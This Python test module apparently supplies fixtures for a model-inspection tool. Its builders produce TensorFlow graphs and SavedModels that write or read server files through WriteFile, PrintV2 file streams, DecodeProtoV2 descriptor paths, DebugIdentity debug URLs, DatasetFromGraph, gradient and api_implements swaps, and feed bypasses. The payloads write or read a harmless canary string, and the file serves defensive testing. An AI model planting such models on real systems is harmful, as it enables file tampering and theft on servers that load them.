"""Models that try to read or write a file of the server, one builder per way of doing it.

Every attack works: `tests/backend/test_attacks.py` runs each in plain TensorFlow first. A writing
attack makes `Attack.target` appear; a reading one brings its content (`SECRET`) into a fetched
value, or takes it in. All are GraphDefs; those with a SavedModel's means (`assets`, `init_op`) work
as a SavedModel only.

    attack = ATTACKS["print_to_file"](tmp_path / "canary")
    attack.save_graph(tmp_path / "model.pb")
    attack.save_model(tmp_path / "saved_model")
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
from google.protobuf import descriptor_pb2

from inspector.graph import tensors
from inspector.graph.protos import FunctionDef, GraphDef, NodeDef, SavedModel

SECRET = "canary: a line of a file of the server"
_FLOAT, _INT32, _UINT8, _STRING, _INT64, _BOOL, _VARIANT = 1, 3, 4, 7, 9, 10, 21
_PRODUCER = 2000


@dataclass(frozen=True)
class Attack:
    """One hostile model.

    Attributes:
        name: The builder's.
        kind: Which kind of hole: `KINDS`.
        why: One sentence on how it works.
        target: The file it writes or reads.
        writes: True where it writes; else it reads.
        refused: The op that the reason of the refusal names.
        fetches: What to ask for.
        feeds: What to give, by tensor name.
        foldable: Folding constants is enough to set it off: it needs no feed and is stateless.
        optimised: It works only where the runtime optimises the graph before it runs it.
        harmless_fetch: The fetch needs nothing of it: the run may go on, without the effect.
        init_op: Node that the loader runs.
        assets: Tensor name to the name of the asset that the loader feeds it with.
    """

    name: str
    kind: str
    why: str
    target: Path
    writes: bool
    refused: str
    graph: GraphDef
    fetches: tuple[str, ...] = ("y:0",)
    feeds: dict[str, Any] = field(default_factory=dict)
    foldable: bool = False
    optimised: bool = False
    harmless_fetch: bool = False
    init_op: str = ""
    assets: dict[str, str] = field(default_factory=dict)

    def save_graph(self, path: Path) -> Path:
        """Write the GraphDef."""
        path.write_bytes(self.graph.SerializeToString())
        return path

    def save_model(self, folder: Path) -> Path:
        """Write a SavedModel with one signature, ``serving_default``, of feeds and fetches."""
        saved = SavedModel(saved_model_schema_version=1)
        meta = saved.meta_graphs.add()
        meta.meta_info_def.tags.append("serve")
        meta.graph_def.CopyFrom(self.graph)
        signature = meta.signature_def["serving_default"]
        signature.method_name = "tensorflow/serving/predict"
        for number, name in enumerate(self.feeds):
            info = signature.inputs[f"x{number}"]
            info.name, info.dtype = name, tensors.enum_of(np.asarray(self.feeds[name]))
        for number, name in enumerate(self.fetches):
            info = signature.outputs[f"y{number}"]
            info.name, info.dtype = name, _dtype_of(self.graph, name)
        (folder / "assets").mkdir(parents=True)
        for tensor, asset in self.assets.items():
            entry = meta.asset_file_def.add(filename=asset)
            entry.tensor_info.name = tensor
            (folder / "assets" / asset).write_text("an asset of the model\n")
        if self.init_op:
            meta.collection_def["saved_model_main_op"].node_list.value.append(self.init_op)
        (folder / "variables").mkdir()
        (folder / "saved_model.pb").write_bytes(saved.SerializeToString())
        return folder


Builder = Callable[[Path], Attack]
ATTACKS: dict[str, Builder] = {}
KINDS = (
    "a graph in a constant",
    "an attribute that decides",
    "an asset that is another tensor",
    "a wall that is one tensor",
    "a function reached without a call",
    "an attribute that is a path",
    "a constant that the import computes",
)


def attack(builder: Builder) -> Builder:
    """Enter a builder under its name."""
    ATTACKS[builder.__name__] = builder
    return builder


def of(
    nodes: list[NodeDef], *functions: FunctionDef, gradients: dict[str, str] | None = None
) -> Any:
    """A GraphDef of these nodes and functions; `gradients`: function to its gradient function."""
    graph = GraphDef(node=nodes)
    graph.versions.producer = _PRODUCER
    graph.library.function.extend(functions)
    for function, gradient in (gradients or {}).items():
        graph.library.gradient.add(function_name=function, gradient_func=gradient)
    return graph


def node(name: str, op: str, *inputs: str, **attrs: Any) -> NodeDef:
    """A NodeDef. An attribute: int (a dtype, a number after ``n_``), list of int (dtypes), list of
    shapes, bool, bytes, str (a function), or an AttrValue.
    """
    made = NodeDef(name=name, op=op, input=inputs)
    for key, value in attrs.items():
        slot = made.attr[key.removeprefix("n_")]
        if key.startswith("n_"):
            slot.i = value
        elif isinstance(value, bool):
            slot.b = value
        elif isinstance(value, int):
            slot.type = value
        elif isinstance(value, bytes):
            slot.s = value
        elif isinstance(value, str):
            slot.func.name = value
        elif isinstance(value, list) and value and isinstance(value[0], list):
            for shape in value:
                slot.list.shape.append(tensors.make_shape(shape))
        elif isinstance(value, list):
            slot.list.SetInParent()
            slot.list.type.extend(value)
        else:
            slot.CopyFrom(value)
    return made


def const(name: str, value: Any, *inputs: str) -> NodeDef:
    """A Const; a str or bytes becomes a string tensor."""
    if isinstance(value, (str, bytes)):
        text = value.encode() if isinstance(value, str) else value
        array = np.array(text, object)
    else:
        array = np.asarray(value)
    made = NodeDef(name=name, op="Const", input=inputs)
    made.attr["value"].tensor.CopyFrom(tensors.from_numpy(array))
    made.attr["dtype"].type = made.attr["value"].tensor.dtype
    return made


def placeholder(name: str, dtype: int = _FLOAT) -> NodeDef:
    """A Placeholder of any shape."""
    made = node(name, "Placeholder", dtype=dtype)
    made.attr["shape"].shape.unknown_rank = True
    return made


def function(
    name: str, args: dict[str, int], nodes: list[NodeDef], results: dict[str, tuple[str, int]]
) -> FunctionDef:
    """A FunctionDef: argument to dtype; result to tensor and dtype. All its nodes must run."""
    made = FunctionDef()
    made.signature.name = name
    for arg, dtype in args.items():
        made.signature.input_arg.add(name=arg, type=dtype)
    for result, (tensor, dtype) in results.items():
        made.signature.output_arg.add(name=result, type=dtype)
        made.ret[result] = tensor
    made.node_def.extend(nodes)
    for item in nodes:
        if item.op in ("WriteFile", "PrintV2"):
            made.control_ret[item.name] = item.name
            made.signature.control_output.append(item.name)
            made.signature.is_stateful = True
    return made


def _dtype_of(graph: GraphDef, tensor: str) -> int:
    name = tensor.partition(":")[0]
    found = next(item for item in graph.node if item.name == name)
    for key in ("T", "dtype", "out_type", "Tout", "output_types"):
        if key in found.attr:
            return int(found.attr[key].type or found.attr[key].list.type[0])
    return _STRING


def _writing(target: Path, prefix: str = "") -> list[NodeDef]:
    """Nodes that write the target; what must wait for them waits for ``write``."""
    return [
        const(f"{prefix}path", str(target)),
        const(f"{prefix}text", SECRET),
        node(f"{prefix}write", "WriteFile", f"{prefix}path", f"{prefix}text"),
    ]


def _writing_body(target: Path) -> list[NodeDef]:
    """The same with the inputs of a function's body."""
    return [
        const("path", str(target)),
        const("text", SECRET),
        node("write", "WriteFile", "path:output:0", "text:output:0"),
    ]


def _secret(target: Path) -> str:
    target.write_text(SECRET + "\n")
    return str(target)


# A graph in a constant


def _dataset_graph(target: Path) -> bytes:
    """A serialised graph whose data set writes the target when it is made."""
    nodes = [
        *_writing(target),
        const("one", np.float32(1), "^write"),
        node("set", "TensorDataset", "one", Toutput_types=[_FLOAT], output_shapes=[[]]),
        node("ret", "_Retval", "set", T=_VARIANT, n_index=0),
    ]
    data: bytes = of(nodes).SerializeToString()
    return data


@attack
def dataset_from_graph(target: Path) -> Attack:
    return Attack(
        "dataset_from_graph",
        KINDS[0],
        "DatasetFromGraph runs the graph that a string holds; it is declared stateless",
        target,
        True,
        "DatasetFromGraph",
        of(
            [
                const("graph", _dataset_graph(target)),
                node("set", "DatasetFromGraph", "graph"),
                node("count", "DatasetCardinality", "set"),
                node("one", "Cast", "count", SrcT=_INT64, DstT=_FLOAT),
                placeholder("x"),
                node("y", "AddV2", "x", "one", T=_FLOAT),
            ]
        ),
        feeds={"x:0": np.float32(1)},
        foldable=True,
    )


@attack
def dataset_from_graph_in_function(target: Path) -> Attack:
    body = [
        const("graph", _dataset_graph(target)),
        node("set", "DatasetFromGraph", "graph:output:0"),
        node("count", "DatasetCardinality", "set:handle:0"),
        node("one", "Cast", "count:cardinality:0", SrcT=_INT64, DstT=_FLOAT),
    ]
    return Attack(
        "dataset_from_graph_in_function",
        KINDS[0],
        "the same in the body of a function that is called without state",
        target,
        True,
        "DatasetFromGraph",
        of(
            [
                node("one", "PartitionedCall", f="load", Tin=[], Tout=[_FLOAT]),
                placeholder("x"),
                node("y", "AddV2", "x", "one", T=_FLOAT),
            ],
            function("load", {}, body, {"r": ("one:y:0", _FLOAT)}),
        ),
        feeds={"x:0": np.float32(1)},
        foldable=True,
    )


# An attribute that decides


@attack
def print_to_file(target: Path) -> Attack:
    stream = f"file://{target}".encode()
    return Attack(
        "print_to_file",
        KINDS[1],
        "PrintV2 writes to the file that its attribute names",
        target,
        True,
        "PrintV2",
        of(
            [
                const("text", SECRET),
                node("print", "PrintV2", "text", output_stream=stream),
                placeholder("x"),
                node("y", "Identity", "x", "^print", T=_FLOAT),
            ]
        ),
        feeds={"x:0": np.float32(1)},
    )


@attack
def print_to_file_in_branch(target: Path) -> Attack:
    stream = f"file://{target}".encode()
    body = [
        const("text", SECRET),
        node("print", "PrintV2", "text:output:0", output_stream=stream),
        node("same", "Identity", "v", "^print", T=_FLOAT),
    ]
    other = [node("same", "Identity", "v", T=_FLOAT)]
    result = {"r": ("same:output:0", _FLOAT)}
    return Attack(
        "print_to_file_in_branch",
        KINDS[1],
        "the same in one branch of an If",
        target,
        True,
        "PrintV2",
        of(
            [
                placeholder("x"),
                const("yes", True),
                node(
                    "y",
                    "If",
                    "yes",
                    "x",
                    then_branch="writes",
                    else_branch="computes",
                    Tcond=_BOOL,
                    Tin=[_FLOAT],
                    Tout=[_FLOAT],
                ),
            ],
            function("writes", {"v": _FLOAT}, body, result),
            function("computes", {"v": _FLOAT}, other, result),
        ),
        feeds={"x:0": np.float32(1)},
    )


# An asset that is another tensor


@attack
def table_from_other_port(target: Path) -> Attack:
    table = node(
        "table",
        "HashTableV2",
        key_dtype=_INT64,
        value_dtype=_STRING,
        shared_name=b"words",
    )
    init = node(
        "init",
        "InitializeTableFromTextFileV2",
        "table",
        "files:1",
        n_key_index=-1,
        n_value_index=-2,
        n_vocab_size=-1,
        delimiter=b"\t",
    )
    return Attack(
        "table_from_other_port",
        KINDS[2],
        "the loader feeds files:0 with the path of the asset; the table is filled from files:1",
        target,
        False,
        "InitializeTableFromTextFileV2",
        of(
            [
                const("asset", "words.txt"),
                const("path", _secret(target)),
                node("files", "IdentityN", "asset", "path", T=[_STRING, _STRING]),
                table,
                init,
                placeholder("x", _INT64),
                const("none", "none"),
                node("y", "LookupTableFindV2", "table", "x", "none", Tin=_INT64, Tout=_STRING),
            ]
        ),
        feeds={"x:0": np.array([0], np.int64)},
        init_op="init",
        assets={"files:0": "words.txt"},
    )


# A wall that is one tensor


@attack
def fed_node_runs_for_its_other_port(target: Path) -> Attack:
    return Attack(
        "fed_node_runs_for_its_other_port",
        KINDS[3],
        "pair:0 is fed; the node still runs for pair:1, which is the content of a file",
        target,
        False,
        "ReadFile",
        of(
            [
                const("path", _secret(target)),
                node("read", "ReadFile", "path"),
                const("start", ""),
                node("pair", "IdentityN", "start", "read", T=[_STRING, _STRING]),
                node("y", "StringJoin", "pair:0", "pair:1", n_N=2),
            ]
        ),
        feeds={"pair:0": np.array(b"", object)},
    )


@attack
def fed_node_runs_for_a_control_edge(target: Path) -> Attack:
    return Attack(
        "fed_node_runs_for_a_control_edge",
        KINDS[3],
        "x:0 is fed; a node that waits for x makes it run, and what x waits for",
        target,
        True,
        "WriteFile",
        of(
            [
                *_writing(target),
                const("zero", np.float32(0)),
                node("x", "Identity", "zero", "^write", T=_FLOAT),
                const("one", np.float32(1), "^x"),
                node("y", "AddV2", "x", "one", T=_FLOAT),
            ]
        ),
        feeds={"x:0": np.float32(1)},
    )


# A function reached without a call


@attack
def gradient_in_library(target: Path) -> Attack:
    plain = [node("same", "Identity", "v", T=_FLOAT)]
    wrong = [*_writing_body(target), node("same", "Identity", "dy", "^write", T=_FLOAT)]
    return Attack(
        "gradient_in_library",
        KINDS[4],
        "SymbolicGradient of a harmless function runs the one that the library names its gradient",
        target,
        True,
        "WriteFile",
        of(
            [
                placeholder("x"),
                const("one", np.float32(1)),
                node(
                    "y",
                    "SymbolicGradient",
                    "x",
                    "one",
                    f="plain",
                    Tin=[_FLOAT, _FLOAT],
                    Tout=[_FLOAT],
                ),
            ],
            function("plain", {"v": _FLOAT}, plain, {"r": ("same:output:0", _FLOAT)}),
            function(
                "wrong",
                {"v": _FLOAT, "dy": _FLOAT},
                wrong,
                {"r": ("same:output:0", _FLOAT)},
            ),
            gradients={"plain": "wrong"},
        ),
        feeds={"x:0": np.float32(1)},
    )


@attack
def function_of_a_data_set(target: Path) -> Attack:
    body = [*_writing_body(target), node("same", "Identity", "v", "^write", T=_FLOAT)]
    shapes: dict[str, Any] = {"output_types": [_FLOAT], "output_shapes": [[]]}
    return Attack(
        "function_of_a_data_set",
        KINDS[4],
        "a data set's map calls a function when an element is asked for",
        target,
        True,
        "WriteFile",
        of(
            [
                placeholder("x"),
                node("set", "TensorDataset", "x", Toutput_types=[_FLOAT], output_shapes=[[]]),
                node("map", "MapDataset", "set", f="writes", Targuments=[], **shapes),
                node("y", "DatasetToSingleElement", "map", **shapes),
            ],
            function("writes", {"v": _FLOAT}, body, {"r": ("same:output:0", _FLOAT)}),
        ),
        feeds={"x:0": np.float32(1)},
    )


@attack
def function_by_its_name(target: Path) -> Attack:
    inner = [*_writing_body(target), node("same", "Identity", "v", "^write", T=_FLOAT)]
    outer = [node("call", "writes", "v")]
    return Attack(
        "function_by_its_name",
        KINDS[4],
        "a node whose op is a function's name, in the body of another such",
        target,
        True,
        "WriteFile",
        of(
            [placeholder("x"), node("y", "calls", "x")],
            function("calls", {"v": _FLOAT}, outer, {"r": ("call:r:0", _FLOAT)}),
            function("writes", {"v": _FLOAT}, inner, {"r": ("same:output:0", _FLOAT)}),
        ),
        feeds={"x:0": np.float32(1)},
    )


@attack
def implementation_of_the_same_name(target: Path) -> Attack:
    result = {"r": ("same:output:0", _FLOAT)}
    plain = function("plain", {"v": _FLOAT}, [node("same", "Identity", "v", T=_FLOAT)], result)
    body = [*_writing_body(target), node("same", "Identity", "v", "^write", T=_FLOAT)]
    writes = function("writes", {"v": _FLOAT}, body, result)
    for made, device in ((plain, b"GPU"), (writes, b"CPU")):
        made.attr["api_implements"].s = b"copy"
        made.attr["api_preferred_device"].s = device
    # Grappler leaves small graphs alone, and calls without a device.
    call = node("call", "StatefulPartitionedCall", "x", f="plain", Tin=[_FLOAT], Tout=[_FLOAT])
    call.device = "/device:CPU:0"
    chain = [node(f"n{i}", "Neg", f"n{i - 1}" if i else "call", T=_FLOAT) for i in range(4)]
    return Attack(
        "implementation_of_the_same_name",
        KINDS[4],
        "Grappler puts another function of the same api_implements in the place of the one called",
        target,
        True,
        "WriteFile",
        of(
            [
                placeholder("x"),
                call,
                *chain,
                node("y", "Identity", "n3", T=_FLOAT),
            ],
            plain,
            writes,
        ),
        feeds={"x:0": np.float32(1)},
        optimised=True,
    )


# An attribute that is a path


def _descriptors() -> bytes:
    files = descriptor_pb2.FileDescriptorSet()
    file = files.file.add(name="canary.proto", package="canary", syntax="proto3")
    field_ = file.message_type.add(name="Line").field.add(name="text", number=1)
    field_.type, field_.label = field_.TYPE_STRING, field_.LABEL_OPTIONAL
    return files.SerializeToString()


@attack
def descriptor_source(target: Path) -> Attack:
    target.write_bytes(_descriptors())
    decode = node(
        "decode",
        "DecodeProtoV2",
        "bytes",
        message_type=b"canary.Line",
        output_types=[_STRING],
        descriptor_source=str(target).encode(),
    )
    decode.attr["field_names"].list.s.append(b"text")
    text = SECRET.encode()
    return Attack(
        "descriptor_source",
        KINDS[5],
        "DecodeProtoV2 reads the file that its attribute names",
        target,
        False,
        "DecodeProtoV2",
        of(
            [
                const("bytes", b"\x0a" + bytes([len(text)]) + text),
                decode,
                node("y", "Identity", "decode:1", T=_STRING),
            ]
        ),
        foldable=True,
    )


# A constant that the import computes


@attack
def computed_by_the_import(target: Path) -> Attack:
    debug = node(
        "debug",
        "DebugIdentity",
        "value",
        T=_UINT8,
        tensor_name=b"value:0",
        device_name=b"/job:localhost/replica:0/task:0/device:CPU:0",
    )
    debug.attr["debug_urls"].list.s.append(f"file://{target}".encode())
    return Attack(
        "computed_by_the_import",
        KINDS[6],
        "to infer shapes the importer runs a stateless op that writes files, whatever is fetched",
        target,
        True,
        "DebugIdentity",
        of(
            [
                const("value", np.uint8([1])),
                debug,
                node("shape", "Cast", "debug", SrcT=_UINT8, DstT=_INT32),
                placeholder("x"),
                node("y", "Neg", "x", T=_FLOAT),
                node("z", "Reshape", "x", "shape", T=_FLOAT, Tshape=_INT32),
            ]
        ),
        feeds={"x:0": np.float32(1)},
        harmless_fetch=True,
    )
